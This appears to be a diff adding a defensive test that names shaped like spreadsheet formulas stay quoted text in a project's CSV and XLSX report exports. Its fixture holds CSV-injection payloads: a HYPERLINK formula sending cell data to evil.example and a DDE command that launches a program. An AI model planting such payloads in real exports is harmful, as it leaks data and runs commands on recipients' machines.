@@ -339,3 +339,34 @@ def test_a_summary_left_on_an_old_team_is_reported(org, database_url) -> None:
         connection.execute(text("UPDATE official_results SET team_id = NULL"))
     engine.dispose()
     assert any("on another team" in p for p in summaries.check_summaries(org()))
+
+
+FORMULA_NAMES = {
+    "mia@x.org": '=HYPERLINK("http://evil.example/?d="&B2,"Mia")',
+    "nat@x.org": "+cmd|' /C calc'!A0",
+    "ned@x.org": "@SUM(1+1)",
+}
+
+
+def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx_reports(org) -> None:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from skillgrid.formulas import TRIGGERS
+    from skillgrid.reports.team import report_csv, report_xlsx
+
+    for email, name in FORMULA_NAMES.items():
+        people.update_person(org(), email, name=name, actor=OPERATOR)
+    report = insight.team_report(org(), OPERATOR, "Net")
+    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
+    names = {row["name"] for row in rows if row["name"]}
+    assert names == {"'" + name for name in FORMULA_NAMES.values()}
+    signed = {cell for row in rows for cell in row.values() if cell.startswith(TRIGGERS)}
+    assert signed == {"-0.75", "-1"}  # Mia's calibration, movement: numbers, written as such
+    book = load_workbook(io.BytesIO(report_xlsx(report)))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    written = {cell.value: cell.data_type for cell in cells if cell.value in FORMULA_NAMES.values()}
+    assert written == dict.fromkeys(FORMULA_NAMES.values(), "s")
+    assert not [cell for cell in cells if cell.data_type == "f"]
